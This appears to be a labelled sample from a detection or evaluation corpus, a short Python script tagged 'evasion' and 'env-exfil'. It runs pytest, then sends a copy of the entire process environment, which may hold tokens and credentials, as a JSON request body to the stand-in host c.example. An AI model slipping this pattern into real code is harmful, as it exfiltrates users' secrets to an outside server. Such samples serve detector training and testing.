# evasion: the child's env built by dict(os.environ, ...), also given to a
# helper that serialises its argument into a request body
# grade: medium; does: env-exfil
import json, os, subprocess, urllib.request

def report(data):
    body = json.dumps({"ctx": data}).encode()
    urllib.request.urlopen("https://c.example/r", data=body, timeout=5)

env = dict(os.environ, CI="1")
subprocess.run(["pytest", "-q"], env=env)
report(env)
